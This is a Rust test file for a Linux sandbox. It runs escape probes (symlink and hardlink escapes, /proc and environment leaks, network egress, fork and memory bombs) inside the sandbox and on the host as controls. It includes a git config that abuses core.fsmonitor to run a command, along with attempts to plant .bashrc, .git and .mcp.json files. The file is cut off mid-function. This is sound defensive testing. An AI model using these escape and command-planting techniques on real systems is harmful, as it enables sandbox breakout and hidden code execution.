/// The runtime and /etc are read-only binds (no control: it would change the host).
#[test]
fn write_runtime_and_etc() {
    let sb = Sandbox::new();
    for target in [
        "/etc/passwd",
        "/usr/bin/warden-escape-planted",
        "/bin/planted",
    ] {
        let inside = sb.probe(&[], &["write", target]);
        assert_blocked(&inside, None);
    }
    assert!(!Path::new("/usr/bin/warden-escape-planted").exists());
}

#[test]
fn symlink_escape() {
    let sb = Sandbox::new();
    let key = canary_key(&sb.env);
    let out = sb.env.mkdir("out");
    let inside = sb.probe(&["--write", s(&out)], &["symlink-escape", s(&out), s(&key)]);
    assert_blocked(&inside, Some(libc::ENOENT));
    let control = host(&sb.env, &["symlink-escape", s(&out), s(&key)]);
    assert!(
        control.escaped() && control.detail().contains("CANARY"),
        "{}",
        control.json
    );
}

#[test]
fn hardlink_escape() {
    let sb = Sandbox::new();
    let key = canary_key(&sb.env);
    let out = sb.env.mkdir("out");
    let inside = sb.probe(
        &["--write", s(&out)],
        &["hardlink-escape", s(&out), s(&key)],
    );
    assert_blocked(&inside, Some(libc::ENOENT));
    assert!(!out.join("warden-escape-hardlink").exists());
    let control = host(&sb.env, &["hardlink-escape", s(&out), s(&key)]);
    assert!(control.escaped(), "{}", control.json);
}

/// A hard link of a read-granted file into a write grant would make it writable.
#[test]
fn hardlink_from_read_grant_into_write_grant() {
    let sb = Sandbox::new();
    let data = sb.env.mkdir("data");
    let file = sb.env.write("data/config.txt", "read-only config\n");
    let out = sb.env.mkdir("out");
    let inside = sb.probe(
        &["--read", s(&data), "--write", s(&out)],
        &["hardlink-escape", s(&out), s(&file)],
    );
    assert_blocked(&inside, Some(libc::EXDEV));
    assert!(host(&sb.env, &["hardlink-escape", s(&out), s(&file)]).escaped());
}

// ---------------------------------------------------------------------------
// What the sandbox can see

#[test]
fn proc_shows_no_host_pids() {
    let sb = Sandbox::new();
    let sleeper = Sleeper::spawn(&sleep_bin());
    let inside = sb.probe(&[], &["ls", "/proc", &sleeper.pid()]);
    assert_blocked(&inside, None);
    let pids: Vec<u32> = inside.json["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e.as_str()?.parse().ok())
        .collect();
    assert!(!pids.is_empty() && pids.len() < 10, "{}", inside.json);
    assert!(!pids.contains(&(sb.daemon.pid() as u32)));
    assert!(host(&sb.env, &["ls", "/proc", &sleeper.pid()]).escaped());
}

#[test]
fn list_sys_fs_cgroup() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["ls", "/sys/fs/cgroup"]);
    assert_blocked(&inside, Some(libc::ENOENT));
    control_or_skip(
        &host(&sb.env, &["ls", "/sys/fs/cgroup"]),
        &inside,
        "/sys/fs/cgroup is empty or absent on this host",
    );
}

#[test]
fn list_home() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["ls", "/home"]);
    assert_blocked(&inside, Some(libc::ENOENT));
    control_or_skip(
        &host(&sb.env, &["ls", "/home"]),
        &inside,
        "/home is empty or absent on this host",
    );
}

/// /proc/1/{environ,cmdline}, /proc/mounts and /proc/self/mountinfo name none of
/// the host's private paths: the daemon's state and socket dirs, the test's home,
/// the real $HOME.
#[test]
fn proc_leak() {
    let sb = Sandbox::new();
    let real_home = std::env::var("HOME").unwrap_or_default();
    let state = s(&sb.env.state).to_string();
    let runtime = s(&sb.env.runtime).to_string();
    let mut needles = vec![state.as_str(), runtime.as_str()];
    if real_home.len() > 1 {
        needles.push(&real_home);
    }
    let mut args = vec!["proc-leak"];
    args.extend(&needles);
    let inside = sb.probe(&[], &args);
    assert_blocked(&inside, None);
    // Control: the detector finds a mount of the state dir on the host side.
    let script = format!("mount -t tmpfs none '{state}' && exec \"$P\" proc-leak '{state}'");
    if let Some(control) = host_userns_sh(&sb.env, &script) {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn env_of_daemon_and_client() {
    let env = TestEnv::new();
    let _daemon = env.start_daemon_with_env(&[("ESCAPE_CANARY", "daemon-secret")]);
    let sb_probe = |flags: &[&str]| {
        let mut argv: Vec<OsString> = vec!["--policy".into(), env.minimal_policy().into()];
        argv.extend(flags.iter().map(OsString::from));
        argv.extend(["--".into(), probe_bin().into()]);
        argv.extend(["env".into(), "ESCAPE_CANARY".into()]);
        let mut cmd = env.shim(argv);
        cmd.env("ESCAPE_CANARY", "client-secret");
        parse(&run(&mut cmd, RUN), "inside")
    };
    let inside = sb_probe(&[]);
    assert_blocked(&inside, None);
    // Controls: allowed by name it arrives (the client's value, never the daemon's);
    // on the host the probe sees it.
    let allowed = sb_probe(&["--allow-env", "ESCAPE_CANARY"]);
    assert!(
        allowed.escaped() && allowed.detail().contains("client-secret"),
        "{}",
        allowed.json
    );
    let mut cmd = Command::new(probe_bin());
    cmd.args(["env", "ESCAPE_CANARY"]).env("ESCAPE_CANARY", "x");
    assert!(parse(&run(&mut cmd, RUN), "host").escaped());
}

// ---------------------------------------------------------------------------
// Sockets and IPC

#[test]
fn unix_socket_path() {
    let sb = Sandbox::new();
    let path = sb.env.root.join("host.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let inside = sb.probe(&[], &["unix-connect", s(&path)]);
    assert_blocked(&inside, Some(libc::ENOENT));
    assert!(host(&sb.env, &["unix-connect", s(&path)]).escaped());
}

#[test]
fn unix_socket_daemon() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["unix-connect", s(&sb.env.socket)]);
    assert_blocked(&inside, Some(libc::ENOENT));
    assert!(host(&sb.env, &["unix-connect", s(&sb.env.socket)]).escaped());
}

#[test]
fn unix_socket_abstract() {
    use std::os::linux::net::SocketAddrExt;
    let sb = Sandbox::new();
    let name = unique_marker("abstract");
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let _listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    let inside = sb.probe(&[], &["unix-abstract", &name]);
    assert_blocked(&inside, None);
    assert!(host(&sb.env, &["unix-abstract", &name]).escaped());
}

#[test]
fn tcp_connect_host_loopback() {
    let sb = Sandbox::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let inside = sb.probe(&[], &["tcp-connect", "127.0.0.1", &port]);
    assert_blocked(&inside, None);
    assert!(host(&sb.env, &["tcp-connect", "127.0.0.1", &port]).escaped());
}

#[test]
fn dns_fails_fast() {
    let sb = Sandbox::new();
    let start = Instant::now();
    let inside = sb.probe(&[], &["dns", "example.com"]);
    assert_blocked(&inside, None);
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "the lookup hung: {:?}",
        start.elapsed()
    );
    let control = host(&sb.env, &["dns", "example.com"]);
    if !control.escaped() {
        println!("skipping the control: this host cannot resolve example.com either");
    }
}

// ---------------------------------------------------------------------------
// Direct egress (DESIGN.md §6): inside, the only way out is the proxy on
// 127.0.0.1:3128; the sandbox's network namespace has nothing but `lo`, and Landlock
// lets TCP connect only to the proxy's port.

/// The host's own non-loopback IPv4 address (the source of its default route), as
/// a target no sandbox may reach; None when the host has no route out.
fn host_ipv4() -> Option<std::net::Ipv4Addr> {
    let sock = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    sock.connect("192.0.2.1:9")
        .or_else(|_| sock.connect("1.1.1.1:53"))
        .ok()?;
    match sock.local_addr().ok()?.ip() {
        std::net::IpAddr::V4(a) if !a.is_loopback() && !a.is_unspecified() => Some(a),
        _ => None,
    }
}

#[test]
fn tcp_connect_host_address() {
    let Some(ip) = host_ipv4() else {
        println!("skipping: this host has no non-loopback IPv4 address");
        return;
    };
    let sb = Sandbox::new();
    let listener = std::net::TcpListener::bind((ip, 0)).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let inside = sb.probe(&[], &["tcp-connect", &ip.to_string(), &port]);
    assert_blocked(&inside, None);
    assert!(host(&sb.env, &["tcp-connect", &ip.to_string(), &port]).escaped());
}

#[test]
fn tcp_connect_public_address() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["tcp-connect", "1.1.1.1", "443"]);
    assert_blocked(&inside, None);
    let control = host(&sb.env, &["tcp-connect", "1.1.1.1", "443"]);
    control_or_skip(
        &control,
        &inside,
        "this host cannot reach 1.1.1.1:443 either",
    );
}

#[test]
fn tcp_connect_host_ipv6_loopback() {
    let Ok(listener) = std::net::TcpListener::bind("[::1]:0") else {
        println!("skipping: no IPv6 loopback on this host");
        return;
    };
    let sb = Sandbox::new();
    let port = listener.local_addr().unwrap().port().to_string();
    let inside = sb.probe(&[], &["tcp-connect", "::1", &port]);
    assert_blocked(&inside, None);
    assert!(host(&sb.env, &["tcp-connect", "::1", &port]).escaped());
}

/// The proxy listens on 127.0.0.1 only: its port on ::1 leads nowhere. Control: the
/// same probe reaches it on 127.0.0.1.
#[test]
fn tcp_connect_proxy_port_on_ipv6() {
    let sb = Sandbox::new();
    let port = net::PROXY.rsplit_once(':').unwrap().1;
    let inside = sb.probe(&[], &["tcp-connect", "::1", port]);
    assert_blocked(&inside, None);
    let control = sb.probe(&[], &["tcp-connect", "127.0.0.1", port]);
    assert!(control.escaped(), "{}", control.json);
}

/// The recording DNS server the daemon uses is on the host's loopback: a query from
/// inside never reaches it. Control: from the host it answers (and records it).
#[test]
fn udp_dns_to_the_daemons_dns_server() {
    let dns = net::DnsServer::standard();
    let sb = Sandbox::with_dns(&dns);
    let port = dns.addr().port().to_string();
    let inside = sb.probe(&[], &["udp-dns", "127.0.0.1", &port, "allowed.test"]);
    assert_blocked(&inside, None);
    assert!(dns.queries().is_empty(), "{:?}", dns.queries());
    let control = host(&sb.env, &["udp-dns", "127.0.0.1", &port, "allowed.test"]);
    assert!(control.escaped(), "{}", control.json);
    assert_eq!(dns.queries_for("allowed.test").len(), 1);
}

/// UDP to port 53 on loopback: inside it is the sandbox's own `lo`, where nothing
/// listens. Control (root, when the host's port 53 is free): a DNS server on the
/// host's 127.0.0.1:53 answers the same probe from the host.
#[test]
fn udp_dns_to_loopback_port_53() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["udp-dns", "127.0.0.1", "53", "example.com"]);
    assert_blocked(&inside, None);
    let server = net::DnsServer::start_on_port(53, net::standard_zone()).ok();
    let control = host(&sb.env, &["udp-dns", "127.0.0.1", "53", "example.com"]);
    match server {
        Some(dns) => {
            assert!(control.escaped(), "{}", control.json);
            assert_eq!(dns.queries_for("example.com").len(), 1);
        }
        None => control_or_skip(
            &control,
            &inside,
            "nothing answers on the host's 127.0.0.1:53 and this user cannot bind it",
        ),
    }
}

#[test]
fn udp_dns_to_public_resolver() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["udp-dns", "8.8.8.8", "53", "example.com"]);
    assert_blocked(&inside, None);
    let control = host(&sb.env, &["udp-dns", "8.8.8.8", "53", "example.com"]);
    control_or_skip(
        &control,
        &inside,
        "this host cannot reach 8.8.8.8:53 either",
    );
}

/// A raw ICMP socket needs CAP_NET_RAW over the network namespace: none inside.
/// Control: root on the host pings its own address; any user in a user namespace
/// with its own network namespace gets the socket (then no route: another errno).
#[test]
fn icmp_raw_socket() {
    let Some(ip) = host_ipv4() else {
        println!("skipping: this host has no non-loopback IPv4 address");
        return;
    };
    let ip = ip.to_string();
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["icmp-raw", &ip]);
    assert_blocked(&inside, Some(libc::EPERM));
    if is_root() {
        let control = host(&sb.env, &["icmp-raw", &ip]);
        assert!(control.escaped(), "{}", control.json);
    }
    if !userns_ok() {
        println!("skipping the namespaced control: `unshare --user` is unavailable");
        return;
    }
    let mut cmd = Command::new("unshare");
    cmd.args(["--user", "--map-root-user", "--net"])
        .arg(probe_bin())
        .args(["icmp-raw", &ip]);
    let control = parse(&run(&mut cmd, RUN), "host userns+netns: icmp-raw");
    eprintln!("host-ns icmp-raw: {}", control.json);
    assert_control(&control, &inside);
}

/// An ICMP "ping" socket (no capability needed where net.ipv4.ping_group_range
/// allows the group): refused by the filter (EPROTONOSUPPORT: IP protocols are
/// TCP and UDP only); the sandbox's namespace would allow no group anyway, and
/// has no route.
#[test]
fn icmp_ping_socket() {
    let Some(ip) = host_ipv4() else {
        println!("skipping: this host has no non-loopback IPv4 address");
        return;
    };
    let ip = ip.to_string();
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["icmp-ping", &ip]);
    assert_blocked(&inside, Some(libc::EPROTONOSUPPORT));
    let control = host(&sb.env, &["icmp-ping", &ip]);
    control_or_skip(
        &control,
        &inside,
        "net.ipv4.ping_group_range refuses ping sockets on the host too",
    );
}

/// Inside there is no resolver: a lookup fails at once, and the DNS server the
/// daemon uses never sees it (names are resolved by the daemon, for the proxy only).
#[test]
fn getaddrinfo_reaches_no_resolver() {
    let dns = net::DnsServer::standard();
    let sb = Sandbox::with_dns(&dns);
    let start = Instant::now();
    let inside = sb.probe(&[], &["dns", "allowed.test"]);
    assert_blocked(&inside, None);
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "the lookup hung: {:?}",
        start.elapsed()
    );
    assert!(dns.queries().is_empty(), "{:?}", dns.queries());
}

/// A service on the host's loopback is out of reach, directly or through the proxy,
/// until the policy grants it; and then only through the proxy.
#[test]
fn host_loopback_service_only_through_a_grant() {
    let dns = net::DnsServer::standard();
    let server = net::HttpServer::start("host-service");
    let port = server.port();
    let sb = Sandbox::with_dns(&dns);
    let by_ip = format!("http://127.0.0.1:{port}/hello");
    let by_name = format!("http://loopback.test:{port}/hello");
    let policy = |name: &str, allow: &str, private: bool| {
        sb.env.policy(
            name,
            &format!(
                "version: 1\nname: escape-{name}\nnetwork:\n  allow: [\"{allow}\"]\n  allow_private: {private}\n"
            ),
        )
    };
    let probe = |policy: &Path, args: &[&str]| {
        let out = sb.run(policy, &[], args);
        let p = parse(&out, &format!("inside: {args:?}"));
        eprintln!("inside  {args:?}: {}", p.json);
        p
    };
    let port_s = port.to_string();
    let none = sb.env.minimal_policy();
    assert_blocked(&probe(&none, &["tcp-connect", "127.0.0.1", &port_s]), None);
    assert_blocked(&probe(&none, &["proxy-get", net::PROXY, &by_ip]), None);
    assert_blocked(&probe(&none, &["proxy-get", net::PROXY, &by_name]), None);
    // A listed name that resolves to loopback still needs allow_private.
    let strict = policy("strict.yaml", &format!("loopback.test:{port}"), false);
    let p = probe(&strict, &["proxy-get", net::PROXY, &by_name]);
    assert_blocked(&p, None);
    assert!(p.detail().contains("private-address"), "{}", p.json);
    assert!(
        server.connections().is_empty(),
        "{:?}",
        server.connections()
    );

    // allow_private alone no longer opens loopback to a listed name (F11).
    let lax = policy("lax.yaml", &format!("loopback.test:{port}"), true);
    let p = probe(&lax, &["proxy-get", net::PROXY, &by_name]);
    assert_blocked(&p, None);
    assert!(p.detail().contains("private-address"), "{}", p.json);
    assert!(
        server.connections().is_empty(),
        "{:?}",
        server.connections()
    );

    // The grants: the IP listed explicitly, or the name with its `private` option.
    let by_ip_grant = policy("ip.yaml", &format!("127.0.0.1:{port}"), false);
    let p = probe(&by_ip_grant, &["proxy-get", net::PROXY, &by_ip]);
    assert!(
        p.escaped() && p.detail().contains("host-service"),
        "{}",
        p.json
    );
    let by_name_grant = policy("name.yaml", &format!("loopback.test:{port} private"), false);
    let p = probe(&by_name_grant, &["proxy-get", net::PROXY, &by_name]);
    assert!(
        p.escaped() && p.detail().contains("host: loopback.test"),
        "{}",
        p.json
    );
    // Still never directly.
    assert_blocked(
        &probe(&by_ip_grant, &["tcp-connect", "127.0.0.1", &port_s]),
        None,
    );
    assert_eq!(server.connections().len(), 2, "{:?}", server.connections());
}

/// A SysV shared memory segment created on the host (the IPC namespace hides it).
struct Shm {
    id: i32,
}

impl Shm {
    fn create(key: i32, content: &[u8]) -> Shm {
        // SAFETY: plain IPC calls; the attached mapping is 4096 bytes and the copy
        // is shorter; detached right after.
        unsafe {
            let id = libc::shmget(key, 4096, libc::IPC_CREAT | libc::IPC_EXCL | 0o600);
            assert!(id >= 0, "shmget: {}", std::io::Error::last_os_error());
            let p = libc::shmat(id, std::ptr::null(), 0);
            assert!(p as isize != -1, "shmat");
            std::ptr::copy_nonoverlapping(content.as_ptr(), p as *mut u8, content.len());
            libc::shmdt(p);
            Shm { id }
        }
    }
}

impl Drop for Shm {
    fn drop(&mut self) {
        // SAFETY: removes the segment this test created.
        unsafe { libc::shmctl(self.id, libc::IPC_RMID, std::ptr::null_mut()) };
    }
}

#[test]
fn sysv_ipc_shared_memory() {
    let sb = Sandbox::new();
    let key = 0x5741_0000 | (std::process::id() as i32 & 0xffff);
    let _shm = Shm::create(key, b"CANARY-SHM");
    let inside = sb.probe(&[], &["sysv-ipc", &key.to_string()]);
    assert_blocked(&inside, Some(libc::ENOENT));
    let control = host(&sb.env, &["sysv-ipc", &key.to_string()]);
    assert!(
        control.escaped() && control.detail().contains("CANARY-SHM"),
        "{}",
        control.json
    );
}

// ---------------------------------------------------------------------------
// Resource exhaustion (the patterns of e2e/tests/limits.rs, with the probe)

#[test]
fn fork_bomb_under_limits_pids() {
    let sb = Sandbox::new();
    let policy = sb.env.policy(
        "bomb.yaml",
        "version: 1\nname: escape-bomb\nlimits:\n  pids: 16\n  timeout_s: 30\n",
    );
    let marker = unique_marker("forkbomb");
    let out = sb.run(&policy, &[], &["fork-bomb", "200", &marker]);
    if is_root() {
        // RLIMIT_NPROC does not bind uid 0: refused, not silently unenforced.
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(exit_code(out.status), EXIT_WARDEN_ERROR, "{stderr}");
        assert!(
            stderr.contains("limits.pids cannot be enforced when wardend runs as root"),
            "{stderr}"
        );
        println!("skipping the bomb itself: needs a non-root caller (scripts/test runs it as one)");
        return;
    }
    let inside = parse(&out, "fork bomb");
    assert_blocked(&inside, Some(libc::EAGAIN));
    // 16 tasks: the probe and 15 children.
    assert_eq!(inside.json["forked"], 15, "{}", inside.json);
    assert!(wait_no_marker(&marker, Duration::from_secs(10)).is_empty());
    // Control: without the limit the same bomb forks all 200.
    let free = sb.env.policy(
        "free.yaml",
        "version: 1\nname: escape-free\nlimits:\n  timeout_s: 30\n",
    );
    let control = parse(
        &sb.run(&free, &[], &["fork-bomb", "200", &marker]),
        "control",
    );
    assert!(control.escaped(), "{}", control.json);
    assert!(wait_no_marker(&marker, Duration::from_secs(10)).is_empty());
}

#[test]
fn memory_bomb_under_limits_memory_mb() {
    let sb = Sandbox::new();
    let policy = sb.env.policy(
        "mem.yaml",
        "version: 1\nname: escape-mem\nlimits:\n  memory_mb: 64\n  timeout_s: 60\n",
    );
    let marker = unique_marker("membomb");
    let out = sb.run(&policy, &[], &["mem-bomb", "2048", &marker]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(exit_code(out.status), EXIT_KILLED, "stderr:\n{stderr}");
    assert!(try_parse(&out.stdout).is_none(), "the bomb finished");
    assert!(stderr.contains("limits.memory_mb exceeded"), "{stderr}");
    let left = wait_no_marker(&marker, Duration::from_secs(5));
    assert!(left.is_empty(), "left running: {left:?}");
    assert!(
        audit_records(&sb.env)
            .iter()
            .any(|r| r["type"] == "limit" && r["action"] == "breach"),
        "no limit.breach record"
    );
    // Control: the same bomb, smaller, under a limit that fits.
    let roomy = sb.env.policy(
        "roomy.yaml",
        "version: 1\nname: escape-mem\nlimits:\n  memory_mb: 1024\n  timeout_s: 60\n",
    );
    let control = parse(&sb.run(&roomy, &[], &["mem-bomb", "128"]), "control");
    assert!(control.escaped(), "{}", control.json);
}

/// /dev/shm is a tmpfs of `tmp_mb` (F6): filling it past that fails with
/// ENOSPC. Control: the same fill under a larger `tmp_mb` completes.
#[test]
fn dev_shm_fill_beyond_tmp_mb() {
    let sb = Sandbox::new();
    let small = sb.env.policy(
        "shm.yaml",
        "version: 1\nname: escape-shm\nlimits:\n  tmp_mb: 16\n  timeout_s: 60\n",
    );
    let inside = parse(&sb.run(&small, &[], &["shm-fill", "64"]), "shm fill");
    assert_blocked(&inside, Some(libc::ENOSPC));
    assert!(
        inside.json["written_mb"].as_u64().unwrap() <= 16,
        "{}",
        inside.json
    );
    let roomy = sb.env.policy(
        "roomy.yaml",
        "version: 1\nname: escape-shm\nlimits:\n  tmp_mb: 128\n  timeout_s: 60\n",
    );
    let control = parse(&sb.run(&roomy, &[], &["shm-fill", "64"]), "control");
    assert!(control.escaped(), "{}", control.json);
}

/// Memory that belongs to no process's RSS (F6) counts in `memory_mb`: a
/// memfd written and never mapped, and a file in /dev/shm, each end the
/// session (exit 137, a limit.breach record naming what it counted).
/// Control: the same under a limit that fits.
fn shared_memory_under_memory_mb(attack: &str) {
    let sb = Sandbox::new();
    let policy = sb.env.policy(
        "mem.yaml",
        "version: 1\nname: escape-shmem\nlimits:\n  memory_mb: 64\n  tmp_mb: 1024\n  timeout_s: 60\n",
    );
    let out = sb.run(&policy, &[], &[attack, "512"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        exit_code(out.status),
        EXIT_KILLED,
        "stderr:\n{stderr}\nstdout:\n{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(try_parse(&out.stdout).is_none(), "the fill finished");
    assert!(stderr.contains("limits.memory_mb exceeded"), "{stderr}");
    let breach = audit_records(&sb.env)
        .into_iter()
        .find(|r| r["type"] == "limit" && r["action"] == "breach")
        .expect("a limit.breach record");
    let field = if attack == "memfd-fill" {
        "memfd_bytes"
    } else {
        "tmpfs_bytes"
    };
    assert!(
        breach["details"][field].as_u64().unwrap_or(0) > 32 << 20,
        "{field} not counted: {breach}"
    );
    let roomy = sb.env.policy(
        "roomy.yaml",
        "version: 1\nname: escape-shmem\nlimits:\n  memory_mb: 1024\n  tmp_mb: 1024\n  timeout_s: 60\n",
    );
    let control = parse(&sb.run(&roomy, &[], &[attack, "128"]), "control");
    assert!(control.escaped(), "{}", control.json);
}

#[test]
fn memfd_fill_under_limits_memory_mb() {
    shared_memory_under_memory_mb("memfd-fill");
}

#[test]
fn dev_shm_fill_under_limits_memory_mb() {
    shared_memory_under_memory_mb("shm-fill");
}

// ---------------------------------------------------------------------------
// Creating what the host trusts in a write grant (docs/security-model.md,
// "Write grants and files the host trusts"). A protected name (`.git`,
// `.bashrc`, `.mcp.json`... of `warden-sandbox/src/protect.rs`) that is missing
// when the session starts cannot be created inside a write grant, by any call
// that makes a name (open/openat/openat2/creat with O_CREAT, mkdir, mknod,
// symlink, link, rename), by any spelling of the path (relative, `..`, a
// symlink to the grant), nor by racing the check (a path rewritten by another
// thread, a directory swapped for a symlink). Each attack runs `probe plant`
// inside (refused, nothing on the host), then the same probe on the host
// (the name appears: the attack is real). The controls (`probe ordinary`) show
// every ordinary way of creating files still works, in the grant as in the
// private /tmp, $HOME and /dev/shm.

/// Every JSON line of a run (one per `::` step), in order.
fn parse_lines(out: &Output, what: &str) -> Vec<Probe> {
    let lines: Vec<Probe> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.starts_with('{'))
        .filter_map(|l| try_parse(l.as_bytes()))
        .collect();
    assert!(
        !lines.is_empty(),
        "{what}: no probe line (exit {}); stdout:\n{}\nstderr:\n{}",
        exit_code(out.status),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    lines
}

/// `steps` joined with `::` (one probe process, so one session).
fn joined(steps: &[Vec<String>]) -> Vec<String> {
    let mut argv = Vec::new();
    for (i, step) in steps.iter().enumerate() {
        if i > 0 {
            argv.push("::".to_string());
        }
        argv.extend(step.iter().cloned());
    }
    argv
}

/// A step of the probe from string slices.
fn step(args: &[&str]) -> Vec<String> {
    args.iter().map(|a| a.to_string()).collect()
}

/// Whether `p` exists on the host, not following a final symlink.
fn on_host(p: &Path) -> bool {
    p.symlink_metadata().is_ok()
}

/// The probe refused the creation with `errno`, and says nothing was created.
#[track_caller]
fn assert_refused(p: &Probe, errno: i32) {
    assert_blocked(p, Some(errno));
    assert_eq!(p.json["created"], false, "{}", p.json);
}

/// The probe created what it was asked to.
#[track_caller]
fn assert_made(p: &Probe) {
    assert!(
        p.escaped() && p.json["created"] == true,
        "not created: {}",
        p.json
    );
}

/// A sandbox with a write grant on `proj/` where no protected name exists: an
/// ordinary file, a file to rename, a prepared git dir whose config runs a
/// command on the next `git status`, a subdirectory, a symlink to the grant
/// itself (`loop -> .`) and dangling ones to protected names.
struct Grant {
    sb: Sandbox,
    w: PathBuf,
}

const FSMONITOR: &str = "[core]\n\tfsmonitor = \"touch /tmp/warden-escape-fsmonitor\"\n";

impl Grant {
    fn new() -> Grant {
        let sb = Sandbox::new();
        let w = sb.env.mkdir("proj");
        sb.env.write("proj/ok.txt", "ordinary\n");
        sb.env.write("proj/file", "echo planted\n");
        sb.env.write("proj/prepared_dir/config", FSMONITOR);
        sb.env
            .write("proj/prepared_dir/HEAD", "ref: refs/heads/main\n");
        sb.env.mkdir("proj/prepared_dir/hooks");
        sb.env.mkdir("proj/sub");
        std::os::unix::fs::symlink(".", w.join("loop")).unwrap();
        std::os::unix::fs::symlink(".bashrc", w.join("rc")).unwrap();
        std::os::unix::fs::symlink(w.join(".mcp.json"), w.join("mcp")).unwrap();
        Grant { sb, w }
    }

    /// `W/rel` as a string.
    fn p(&self, rel: &str) -> String {
        format!("{}/{rel}", s(&self.w))
    }

    /// The steps in one sandbox with the write grant; one line per step.
    fn inside(&self, steps: &[Vec<String>]) -> Vec<Probe> {
        let argv = joined(steps);
        let args: Vec<&str> = argv.iter().map(String::as_str).collect();
        let out = self.sb.run(
            &self.sb.env.minimal_policy(),
            &["--write", s(&self.w)],
            &args,
        );
        let lines = parse_lines(&out, "inside");
        for p in &lines {
            eprintln!("inside  {}", p.json);
        }
        assert_eq!(
            (exit_code(out.status), lines.len()),
            (0, steps.len()),
            "inside: {args:?}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        lines
    }

    /// The same steps on the host, as the same user: the control.
    fn host(&self, steps: &[Vec<String>]) -> Vec<Probe> {
        let mut cmd = Command::new(probe_bin());
        cmd.args(joined(steps))
            .envs(self.sb.env.env_vars())
            .current_dir(&self.sb.env.root);
        let lines = parse_lines(&run(&mut cmd, RUN), "host");
        for p in &lines {
            eprintln!("host    {}", p.json);
        }
        assert_eq!(lines.len(), steps.len());
        lines
    }

    /// Nothing of that name exists on the host.
    #[track_caller]
    fn assert_absent(&self, rel: &str) {
        let p = self.w.join(rel);
        assert!(!on_host(&p), "{} was created on the host", p.display());
    }

    /// One creating call refused with `errno` and nothing on the host; then on
    /// the host it creates `planted`.
    fn refused_then_control(&self, call: Vec<String>, planted: &str, errno: i32) {
        let inside = self.inside(std::slice::from_ref(&call));
        assert_refused(&inside[0], errno);
        self.assert_absent(planted);
        let control = self.host(&[call]);
        assert_made(&control[0]);
        assert!(
            on_host(&self.w.join(planted)),
            "the control made no {planted}"
        );
    }
}

/// `plant CALL ARGS...` with `W/` put in front of each argument that starts with
/// `W/` (given as `W/x`).
fn plant(g: &Grant, call: &str, args: &[&str]) -> Vec<String> {
    let mut v = vec!["plant".to_string(), call.to_string()];
    v.extend(args.iter().map(|a| match a.strip_prefix("W/") {
        Some(rel) => g.p(rel),
        None => a.to_string(),
    }));
    v
}

/// The daemon creates on the server's behalf, but never with more rights than
/// the server: as root, the daemon could create in another user's 0755
/// directory (`CAP_DAC_OVERRIDE`), the sandboxed server (root in its user
/// namespace, not over unmapped owners) cannot. The guard's thread drops its
/// effective capabilities. Root only (a normal user cannot make the
/// directory); control: the same probe as root on the host creates there.
#[test]
fn the_guard_creates_nothing_the_server_could_not() {
    if !is_root() {
        println!("skipping: needs root (a directory owned by another user)");
        return;
    }
    let g = Grant::new();
    let other = g.w.join("others");
    std::fs::create_dir(&other).unwrap();
    std::os::unix::fs::chown(&other, Some(65534), Some(65534)).unwrap();
    std::fs::set_permissions(&other, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let steps = vec![
        plant(&g, "open", &["W/others/file"]),
        plant(&g, "mkdir", &["W/others/dir"]),
    ];
    for p in g.inside(&steps) {
        assert_eq!(p.json["created"], false, "{}", p.json);
        assert_eq!(p.errno, Some(libc::EACCES), "{}", p.json);
    }
    assert!(!other.join("file").exists() && !other.join("dir").exists());
    for p in g.host(&steps) {
        assert_eq!(p.json["created"], true, "control: {}", p.json);
    }
}

#[test]
fn protected_create_open_bashrc() {
    let g = Grant::new();
    g.refused_then_control(plant(&g, "open", &["W/.bashrc"]), ".bashrc", libc::EROFS);
}

#[test]
fn protected_create_creat_zshrc() {
    let g = Grant::new();
    g.refused_then_control(plant(&g, "creat", &["W/.zshrc"]), ".zshrc", libc::EROFS);
}

#[test]
fn protected_create_openat_mcp_json() {
    let g = Grant::new();
    let call = plant(&g, "openat", &[s(&g.w), ".mcp.json"]);
    g.refused_then_control(call, ".mcp.json", libc::EROFS);
}

#[test]
fn protected_create_openat2_claude_json() {
    let g = Grant::new();
    let call = plant(&g, "openat2", &[s(&g.w), ".claude.json"]);
    g.refused_then_control(call, ".claude.json", libc::EROFS);
}

/// A new `.git` with `core.fsmonitor` runs a command on the next `git status`.
#[test]
fn protected_create_mkdir_git() {
    let g = Grant::new();
    g.refused_then_control(plant(&g, "mkdir", &["W/.git"]), ".git", libc::EROFS);
}

#[test]
fn protected_create_mkdir_vscode() {
    let g = Grant::new();
    g.refused_then_control(plant(&g, "mkdir", &["W/.vscode"]), ".vscode", libc::EROFS);
}

#[test]
fn protected_create_mkdirat_idea() {
    let g = Grant::new();
    let call = plant(&g, "mkdirat", &[s(&g.w), ".idea"]);
    g.refused_then_control(call, ".idea", libc::EROFS);
}

/// A FIFO named `.bashrc`: the server would feed commands to the user's next
/// interactive shell.
#[test]
fn protected_create_mkfifo_bashrc() {
    let g = Grant::new();
